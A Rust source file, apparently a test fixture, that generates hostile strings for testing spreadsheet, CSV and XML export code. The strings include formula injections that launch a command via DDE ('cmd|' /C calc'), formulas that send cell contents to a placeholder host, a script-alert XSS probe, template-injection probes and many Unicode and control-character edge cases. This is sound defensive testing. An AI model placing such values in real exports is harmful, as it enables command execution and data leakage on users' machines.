//! Texts that have broken other programs: formulas, markup, controls, directions, marks, lengths.

/// At least two hundred texts, all different.
pub fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    let formulas = [
        "1+1",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.org/?\"&A1,\"Klikk\")",
        "WEBSERVICE(\"http://example.org\")",
        "IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "2 er mer enn 1",
        "@SUM(1)",
        "1",
        "",
    ];
    for begins in
        ["=", "+", "-", "@", "\t=", "\r=", "\t", "\r", " =", "'=", "\"=", "＝", "＋", "－", "＠", "\n="]
    {
        texts.extend(formulas.map(|formula| format!("{begins}{formula}")));
    }
    let markup = [
        "<script>alert(1)</script>",
        "</t></si></sst>",
        "<![CDATA[ a ]]>",
        "]]>",
        "&amp; &#0; &#xD; &lt;b&gt;",
        "<!-- a --",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
        "<w:p/><row r=\"1\"/>",
        "\" onmouseover=\"x",
        "{=1+1}",
        "{{7*7}} ${7*7} <%= 7 %>",
    ];
    texts.extend(markup.map(str::to_owned));
    let escapes = ["_x0041_", "_x000D_", "_x005F_x0041_", "_x00é_a", "_x004", "_x", "a_xD83D_b", "_xFFFF_"];
    texts.extend(escapes.map(str::to_owned));
    let separators = [
        "a,b",
        "a;b",
        "a\tb",
        "\"",
        "\"\"",
        "a\"b\"c",
        "a\nb",
        "\n",
        "a\r\nb",
        "a\rb",
        ",,,",
        "\"\n\"",
        "a\n\nb,\"c\"",
    ];
    texts.extend(separators.map(str::to_owned));
    let letters = [
        "مرحبا =1+1",
        "שלום, עולם",
        "\u{202e}=1+1\u{202c}",
        "\u{2066}a\u{2069}",
        "e\u{301}\u{300}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
        "👩🏽\u{200d}🚒👨\u{200d}👩\u{200d}👧\u{200d}👦",
        "🇳🇴🇸🇯",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "\u{a0}=1",
        "\u{2028}\u{2029}",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "會議の記録",
        "ÆØÅ æøå áŋđšž",
        "\u{fffe}",
        "a\u{ffff}b",
        "\u{fdd0}\u{10ffff}",
        "Ω≈ç√∫˜µ≤≥÷",
        "\u{1f3fb}",
        "ﷺ",
        "1E+400",
        "TRUE",
        "#REF!",
        "2026-11-20",
        "01234",
        "1/2",
        "null",
    ];
    texts.extend(letters.map(str::to_owned));
    texts.extend((0u8..32).chain([127]).map(|code| format!("a{}b", char::from(code))));
    texts.extend(["\u{85}", "\u{9f}"].map(|control| format!("a{control}b")));
    texts.extend(["a", "æ", "👩", "e\u{301}", "<", "="].map(|letter| letter.repeat(2_000)));
    texts.sort();
    texts.dedup();
    assert!(texts.len() >= 200, "only {} texts", texts.len());
    texts
}
